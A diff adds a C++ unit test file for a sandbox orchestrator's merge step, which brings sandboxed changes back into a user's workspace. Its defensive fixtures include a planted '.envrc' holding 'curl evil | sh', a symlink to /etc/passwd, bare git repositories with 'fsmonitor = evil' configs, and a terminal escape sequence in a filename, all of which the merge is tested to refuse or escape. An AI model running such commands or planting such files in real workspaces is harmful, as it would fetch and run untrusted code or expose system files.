@@ -1,0 +1,489 @@
+#include "orchestrator/changes/merge.h"
+
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+
+#include "tests/unit/changes/workbench.h"
+
+namespace cofferdam::orchestrator::changes {
+namespace {
+
+using fakes::directory;
+using fakes::file;
+using fakes::LayerBuilder;
+using fakes::link;
+using fakes::Tree;
+
+const Tree& base() {
+  static const Tree kBase = {
+      {"a.txt", file("one\n")}, {"b.sh", file("#!/bin/sh\n", 0755)},
+      {"dir", directory()},     {"dir/x", file("x")},
+      {"dir/sub", directory()}, {"dir/sub/y", file("y")},
+      {"link", link("a.txt")},  {"config.txt", file("read me\n")},
+  };
+  return kBase;
+}
+
+// A merge that must not write: the workspace and what lies beside it stay as they are.
+MergeReport refused_merge(const Workbench& bench, const LayerBuilder& layer,
+                          const MergeOptions& options = {}) {
+  const Tree before = bench.everything();
+  MergeReport report = merge_of(layer, options);
+  EXPECT_EQ(report.exit_status(), 1);
+  EXPECT_FALSE(report.written);
+  EXPECT_EQ(bench.everything(), before) << fakes::difference(bench.everything(), before);
+  return report;
+}
+
+TEST(Merge, TakesEveryKindOfChangeHome) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("a.txt", file("two\n"));
+  layer.chmod("b.sh", 0600);
+  layer.put("link", link("b.sh"));
+  layer.put("new", file(std::string("\0bin\xff", 5)));
+  layer.put("deep", directory(0700));
+  layer.put("deep/er", directory());
+  layer.put("deep/er/f", file("f"));
+  layer.remove("dir/sub");
+  layer.put("dir/sub", file("a file now"));
+  layer.remove("dir/x");
+  layer.put("dir/x", directory(0750));
+  layer.put("dir/x/in", file("in"));
+  layer.chmod("dir", 0711);
+  const MergeReport report = merge_of(layer);
+  EXPECT_EQ(report.exit_status(), 0) << describe(report, false);
+  EXPECT_TRUE(report.written);
+  EXPECT_EQ(bench.ours(), layer.theirs()) << fakes::difference(bench.ours(), layer.theirs());
+}
+
+TEST(Merge, ASecondMergeHasNothingToDoEvenAfterLaterEditsOfTheUser) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("a.txt", file("two\n"));
+  layer.remove("dir");
+  ASSERT_EQ(merge_of(layer).exit_status(), 0);
+  EXPECT_EQ(*count_unmerged_changes(layer.record()), 0U);
+  bench.edit("a.txt", file("my own later edit\n"));
+  const MergeReport again = merge_of(layer);
+  EXPECT_EQ(again.exit_status(), 0);
+  EXPECT_FALSE(again.written);
+  EXPECT_TRUE(again.items.empty());
+  EXPECT_EQ(*count_unmerged_changes(layer.record()), 0U);
+  EXPECT_EQ(bench.ours().at("a.txt").content, "my own later edit\n");
+}
+
+TEST(Merge, APathThatChangesAgainAfterAMergeHasTheMergedVersionAsItsBase) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("a.txt", file("two\n"));
+  ASSERT_EQ(merge_of(layer).exit_status(), 0);
+  layer.forge_upper("a.txt", file("three\n"));
+  const MergeReport report = merge_of(layer);
+  EXPECT_EQ(report.exit_status(), 0) << describe(report, false);
+  EXPECT_EQ(bench.ours().at("a.txt").content, "three\n");
+  layer.forge_upper("a.txt", file("four\n"));
+  bench.edit("a.txt", file("mine\n"));
+  refused_merge(bench, layer);
+}
+
+struct ConflictCase {
+  const char* name;
+  void (*theirs)(LayerBuilder&);
+  void (*ours)(const Workbench&);
+  const char* path;
+};
+
+TEST(Merge, ConflictsWriteNothingAndSayWhatEachSideDid) {
+  const ConflictCase cases[] = {
+      {"lost update", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
+       [](const Workbench& b) { b.edit("a.txt", file("ours")); }, "a.txt"},
+      {"mode against content", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
+       [](const Workbench& b) { b.edit("a.txt", file("one\n", 0600)); }, "a.txt"},
+      {"deleted here, changed there", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
+       [](const Workbench& b) { b.erase("a.txt"); }, "a.txt"},
+      {"changed here, deleted there", [](LayerBuilder& l) { l.remove("a.txt"); },
+       [](const Workbench& b) { b.edit("a.txt", file("ours")); }, "a.txt"},
+      {"both created", [](LayerBuilder& l) { l.put("new", file("theirs")); },
+       [](const Workbench& b) { b.edit("new", file("ours")); }, "new"},
+      {"link against link", [](LayerBuilder& l) { l.put("link", link("b.sh")); },
+       [](const Workbench& b) { b.edit("link", link("dir/x")); }, "link"},
+      {"type", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
+       [](const Workbench& b) { b.edit("a.txt", link("b.sh")); }, "a.txt"},
+      {"deleted directory holds a new name", [](LayerBuilder& l) { l.remove("dir"); },
+       [](const Workbench& b) { b.edit("dir/sub/mine", file("ours")); }, "dir/sub"},
+      {"deleted directory holds a changed file", [](LayerBuilder& l) { l.remove("dir"); },
+       [](const Workbench& b) { b.edit("dir/x", file("ours")); }, "dir/x"},
+      {"directory gone, file added", [](LayerBuilder& l) { l.put("dir/new", file("theirs")); },
+       [](const Workbench& b) { b.erase("dir"); }, "dir/new"},
+      {"directory became a link to elsewhere", [](LayerBuilder& l) { l.put("dir/new", file("t")); },
+       [](const Workbench& b) { b.edit("dir", link("..")); }, "dir/new"},
+      {"changed below a directory that became a link",
+       [](LayerBuilder& l) { l.put("dir/x", file("theirs")); },
+       [](const Workbench& b) { b.edit("dir", link("/etc")); }, "dir/x"},
+      {"type change over a directory with a new name",
+       [](LayerBuilder& l) {
+         l.remove("dir");
+         l.put("dir", file("a file now"));
+       },
+       [](const Workbench& b) { b.edit("dir/mine", file("ours")); }, "dir"},
+      {"a FIFO now", [](LayerBuilder& l) { l.put("a.txt", file("theirs")); },
+       [](const Workbench& b) {
+         b.edit("a.txt", {fakes::NodeKind::kFifo, 0644, {}});
+       },
+       "a.txt"},
+  };
+  for (const ConflictCase& c : cases) {
+    SCOPED_TRACE(c.name);
+    const Workbench bench(base());
+    LayerBuilder layer(bench.workspace());
+    layer.put("other", file("would be fine"));
+    c.theirs(layer);
+    c.ours(bench);
+    const MergeReport report = refused_merge(bench, layer);
+    const MergeItem* item = item_of(report, c.path);
+    ASSERT_NE(item, nullptr);
+    EXPECT_EQ(item->outcome, Outcome::kConflict);
+    EXPECT_FALSE(item->why.empty());
+    EXPECT_NE(describe(report, false).find(c.path), std::string::npos);
+  }
+}
+
+TEST(Merge, AnUnknownBaseIsAConflictUnlessBothSidesAreEqual) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.base_is_unknown = true;
+  layer.put("a.txt", file("two\n"));
+  refused_merge(bench, layer);
+  bench.edit("a.txt", file("two\n"));
+  EXPECT_EQ(merge_of(layer).exit_status(), 0);
+}
+
+TEST(Merge, EqualOnBothSidesIsNothingToDo) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("a.txt", file("two\n"));
+  layer.put("new", file("n"));
+  layer.remove("dir");
+  bench.edit("a.txt", file("two\n"));
+  bench.edit("new", file("n"));
+  bench.erase("dir");
+  const MergeReport report = merge_of(layer);
+  EXPECT_EQ(report.exit_status(), 0);
+  EXPECT_FALSE(report.written);
+  EXPECT_EQ(report.count(Outcome::kSame), report.items.size());
+}
+
+TEST(Merge, TheUserDecidesConflictsByPath) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("a.txt", file("theirs"));
+  layer.put("b.sh", file("theirs", 0755));
+  bench.edit("a.txt", file("ours"));
+  bench.edit("b.sh", file("ours", 0755));
+  MergeOptions options;
+  options.take = {{"a.txt", Side::kOurs}, {"b.sh", Side::kTheirs}};
+  const MergeReport report = merge_of(layer, options);
+  EXPECT_EQ(report.exit_status(), 0) << describe(report, false);
+  EXPECT_EQ(bench.ours().at("a.txt").content, "ours");
+  EXPECT_EQ(bench.ours().at("b.sh").content, "theirs");
+  EXPECT_EQ(*count_unmerged_changes(layer.record()), 0U);
+}
+
+TEST(Merge, PartsLeaveTheRestAndBringTheDirectoriesTheyNeed) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("p", directory());
+  layer.put("p/q", directory());
+  layer.put("p/q/f", file("f"));
+  layer.put("p/g", file("g"));
+  layer.put("a.txt", file("two\n"));
+  MergeOptions options;
+  options.paths = {"p/q/f"};
+  EXPECT_EQ(merge_of(layer, options).exit_status(), 0);
+  Tree expected = base();
+  expected["p"] = directory();
+  expected["p/q"] = directory();
+  expected["p/q/f"] = file("f");
+  EXPECT_EQ(bench.ours(), expected) << fakes::difference(bench.ours(), expected);
+  EXPECT_EQ(*count_unmerged_changes(layer.record()), 2U);
+  EXPECT_EQ(merge_of(layer).exit_status(), 0);
+  EXPECT_EQ(bench.ours(), layer.theirs());
+  EXPECT_EQ(*count_unmerged_changes(layer.record()), 0U);
+}
+
+TEST(Merge, ADryRunWritesNothingAndSettlesNothing) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("a.txt", file("two\n"));
+  const Tree before = bench.everything();
+  MergeOptions options;
+  options.dry_run = true;
+  const MergeReport report = merge_of(layer, options);
+  EXPECT_EQ(report.exit_status(), 0);
+  EXPECT_EQ(report.count(Outcome::kTaken), 1U);
+  EXPECT_EQ(bench.everything(), before);
+  EXPECT_EQ(*count_unmerged_changes(layer.record()), 1U);
+}
+
+TEST(Merge, StaleReadsAreListedAndConflictOnlyWhenAsked) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.read("config.txt");
+  layer.read("b.sh");
+  layer.put("a.txt", file("two\n"));
+  bench.edit("config.txt", file("something else\n"));
+  MergeOptions strict;
+  strict.strict_reads = true;
+  const MergeReport report = refused_merge(bench, layer, strict);
+  ASSERT_EQ(report.stale_reads.size(), 1U);
+  EXPECT_EQ(report.stale_reads[0].path, "config.txt");
+  const MergeReport lenient = merge_of(layer);
+  EXPECT_EQ(lenient.exit_status(), 0);
+  EXPECT_EQ(lenient.stale_reads.size(), 1U);
+}
+
+TEST(Merge, RiskyFilesWantTheirAllowanceByPath) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put(".envrc", file("curl evil | sh\n"));
+  layer.put("out", link("/etc/passwd"));
+  layer.put("a.txt", file("two\n"));
+  const MergeReport report = refused_merge(bench, layer);
+  EXPECT_EQ(item_of(report, ".envrc")->outcome, Outcome::kRefused);
+  EXPECT_EQ(item_of(report, "out")->outcome, Outcome::kRefused);
+  MergeOptions options;
+  options.allow_risky = {".envrc"};
+  refused_merge(bench, layer, options);
+  options.take = {{"out", Side::kOurs}};
+  EXPECT_EQ(merge_of(layer, options).exit_status(), 0);
+  EXPECT_TRUE(bench.ours().contains(".envrc"));
+  EXPECT_FALSE(bench.ours().contains("out"));
+}
+
+TEST(Merge, APlantedBareRepositoryIsRefusedHoweverItIsPutTogether) {
+  const struct {
+    const char* name;
+    Tree ours;    // there already
+    Tree theirs;  // planted
+  } cases[] = {
+      {"whole",
+       {},
+       {{"p", directory()},
+        {"p/HEAD", file("ref: refs/heads/x\n")},
+        {"p/objects", directory()},
+        {"p/refs", directory()},
+        {"p/config", file("[core]\n fsmonitor = evil\n")}}},
+      {"the missing piece",
+       {{"p", directory()}, {"p/HEAD", file("ref: refs/heads/x\n")}, {"p/objects", directory()}},
+       {{"p/refs", directory()}}},
+      {"by links",
+       {{"real", directory()}},
+       {{"p", directory()},
+        {"p/HEAD", file("ref: refs/heads/x\n")},
+        {"p/objects", link("../real")},
+        {"p/refs", link("../real")}}},
+      {"by commondir",
+       {},
+       {{"p", directory()},
+        {"p/HEAD", file("ref: refs/heads/x\n")},
+        {"p/commondir", file("../q\n")}}},
+      {"by case",
+       {},
+       {{"p", directory()},
+        {"p/head", file("ref: refs/heads/x\n")},
+        {"p/Objects", directory()},
+        {"p/REFS", directory()}}},
+      {"the workspace itself",
+       {},
+       {{"HEAD", file("ref: refs/heads/x\n")}, {"objects", directory()}, {"refs", directory()}}},
+      {"the configuration of one that is there",
+       {{"p", directory()},
+        {"p/HEAD", file("ref: refs/heads/x\n")},
+        {"p/objects", directory()},
+        {"p/refs", directory()}},
+       {{"p/config", file("[core]\n fsmonitor = evil\n")}}},
+      {"deep below one that is there",
+       {{"p", directory()},
+        {"p/HEAD", file("ref: refs/heads/x\n")},
+        {"p/objects", directory()},
+        {"p/refs", directory()}},
+       {{"p/a", directory()}, {"p/a/b", file("x")}}},
+  };
+  for (const auto& c : cases) {
+    SCOPED_TRACE(c.name);
+    const Workbench bench(c.ours);
+    LayerBuilder layer(bench.workspace());
+    for (const auto& [path, node] : c.theirs) layer.put(path, node);
+    MergeOptions options;
+    options.allow_risky = {""};
+    const MergeReport report = refused_merge(bench, layer, options);
+    EXPECT_EQ(report.count(Outcome::kRefused), c.theirs.size());
+    // --take theirs is no way around it, piece by piece neither.
+    options.take = {{"", Side::kTheirs}};
+    refused_merge(bench, layer, options);
+  }
+}
+
+TEST(Merge, HalvesOfABareRepositoryDoNotPassOneByOne) {
+  const Workbench bench({});
+  LayerBuilder layer(bench.workspace());
+  layer.put("p", directory());
+  layer.put("p/HEAD", file("ref: refs/heads/x\n"));
+  layer.put("p/objects", directory());
+  layer.put("p/refs", directory());
+  MergeOptions options;
+  options.paths = {"p/HEAD"};
+  EXPECT_EQ(merge_of(layer, options).exit_status(), 0);
+  options.paths = {"p/objects"};
+  EXPECT_EQ(merge_of(layer, options).exit_status(), 0);
+  options.paths = {"p/refs"};
+  refused_merge(bench, layer, options);
+}
+
+TEST(Merge, NothingIsWrittenThroughALinkThatAppearsAtTheLastMoment) {
+  const Workbench bench(base());
+  std::filesystem::create_directory(bench.root() / "elsewhere");
+  LayerBuilder layer(bench.workspace());
+  layer.put("dir/new", file("theirs"));
+  MergeOptions options;
+  options.before_act = [&](std::string_view act, std::string_view) -> Status {
+    if (act == "stage") bench.edit("dir", link("../elsewhere"));
+    return {};
+  };
+  const MergeReport report = merge_of(layer, options);
+  EXPECT_EQ(report.exit_status(), 125);
+  EXPECT_TRUE(report.undone);
+  EXPECT_TRUE(std::filesystem::is_empty(bench.root() / "elsewhere"));
+}
+
+TEST(Merge, AnEditBetweenDecisionAndExchangeIsNotLost) {
+  for (const char* act : {"stage", "exchange", "remove"}) {
+    SCOPED_TRACE(act);
+    const Workbench bench(base());
+    LayerBuilder layer(bench.workspace());
+    layer.put("a.txt", file("theirs"));
+    layer.remove("dir/x");
+    layer.put("other", file("o"));
+    MergeOptions options;
+    bool edited = false;
+    options.before_act = [&](std::string_view now, std::string_view path) -> Status {
+      if (now == act && !edited) {
+        edited = true;
+        bench.edit(now == "remove" ? std::string(path) : "a.txt", file("the user's, in time"));
+      }
+      return {};
+    };
+    const MergeReport report = merge_of(layer, options);
+    EXPECT_EQ(report.exit_status(), 125) << describe(report, false);
+    EXPECT_TRUE(report.undone);
+    Tree expected = base();
+    expected[std::string(act) == "remove" ? "dir/x" : "a.txt"] = file("the user's, in time");
+    EXPECT_EQ(bench.ours(), expected) << fakes::difference(bench.ours(), expected);
+    EXPECT_EQ(*count_unmerged_changes(layer.record()), 3U);
+  }
+}
+
+TEST(Merge, ANameThatAppearsInADirectoryWhileItIsRemovedIsKept) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.remove("dir");
+  MergeOptions options;
+  options.before_act = [&](std::string_view act, std::string_view path) -> Status {
+    if (act == "remove" && path == "dir") bench.edit("dir/late", file("mine"));
+    return {};
+  };
+  const MergeReport report = merge_of(layer, options);
+  EXPECT_EQ(report.exit_status(), 125);
+  Tree expected = base();
+  expected["dir/late"] = file("mine");
+  EXPECT_EQ(bench.ours(), expected) << fakes::difference(bench.ours(), expected);
+}
+
+TEST(Merge, AFileThatTheUserCreatesAtTheLastMomentIsNotReplaced) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("new", file("theirs"));
+  MergeOptions options;
+  options.before_act = [&](std::string_view act, std::string_view) -> Status {
+    if (act == "create") bench.edit("new", file("mine"));
+    return {};
+  };
+  EXPECT_EQ(merge_of(layer, options).exit_status(), 125);
+  EXPECT_EQ(bench.ours().at("new").content, "mine");
+}
+
+TEST(Merge, ADirectoryThatMovesAwayWhileItIsWrittenIntoIsNotFollowed) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("dir/new", file("theirs"));
+  MergeOptions options;
+  options.before_act = [&](std::string_view act, std::string_view) -> Status {
+    if (act == "create") std::filesystem::rename(bench.workspace() / "dir", bench.root() / "moved");
+    return {};
+  };
+  const MergeReport report = merge_of(layer, options);
+  EXPECT_EQ(report.exit_status(), 125);
+  EXPECT_TRUE(report.undone);
+  EXPECT_FALSE(std::filesystem::exists(bench.root() / "moved/new"));
+}
+
+TEST(Merge, WhatCannotBeUndoneIsKeptAndNamed) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("a.txt", file("theirs"));
+  layer.put("z", file("z"));
+  MergeOptions options;
+  options.before_act = [&](std::string_view act, std::string_view) -> Status {
+    if (act != "create") return {};
+    bench.edit("a.txt", file("edited right after it was merged"));
+    return Error("injected");
+  };
+  const MergeReport report = merge_of(layer, options);
+  EXPECT_EQ(report.exit_status(), 125);
+  EXPECT_FALSE(report.undone);
+  ASSERT_FALSE(report.kept_aside.empty());
+  EXPECT_EQ(bench.ours().at("a.txt").content, "one\n");
+  EXPECT_NE(describe(report, false).find(report.kept_aside), std::string::npos);
+  bool kept = false;
+  for (const auto& [path, node] : fakes::subtree(bench.ours(), report.kept_aside)) {
+    kept = kept || node.content == "edited right after it was merged";
+  }
+  EXPECT_TRUE(kept);
+  // And the next merge says so instead of adding to it.
+  EXPECT_FALSE(merge_sandbox(layer.record(), {}).ok());
+}
+
+TEST(Merge, NewFilesBelongToWhoOwnsTheirDirectory) {
+  if (::geteuid() != 0) GTEST_SKIP() << "only root can give files away";
+  const Workbench bench(base());
+  ASSERT_EQ(::chown((bench.workspace() / "dir").c_str(), 1234, 2345), 0);
+  ASSERT_EQ(::chown((bench.workspace() / "a.txt").c_str(), 77, 78), 0);
+  LayerBuilder layer(bench.workspace());
+  layer.put("a.txt", file("two\n"));
+  layer.put("dir/n", directory());
+  layer.put("dir/n/f", file("f"));
+  layer.put("dir/n/l", link("f"));
+  ASSERT_EQ(merge_of(layer).exit_status(), 0);
+  for (const char* path : {"dir/n", "dir/n/f", "dir/n/l"}) {
+    struct stat st {};
+    ASSERT_EQ(::lstat((bench.workspace() / path).c_str(), &st), 0);
+    EXPECT_EQ(st.st_uid, 1234U) << path;
+    EXPECT_EQ(st.st_gid, 2345U) << path;
+  }
+  struct stat st {};
+  ASSERT_EQ(::lstat((bench.workspace() / "a.txt").c_str(), &st), 0);
+  EXPECT_EQ(st.st_uid, 77U);
+}
+
+TEST(Merge, TheReportIsSafeForATerminal) {
+  const Workbench bench(base());
+  LayerBuilder layer(bench.workspace());
+  layer.put("x\x1b[2Jy\n", file("x"));
+  const std::string text = describe(merge_of(layer), false);
+  EXPECT_EQ(text.find('\x1b'), std::string::npos);
+  EXPECT_NE(text.find("\\x1b[2Jy\\n"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace cofferdam::orchestrator::changes
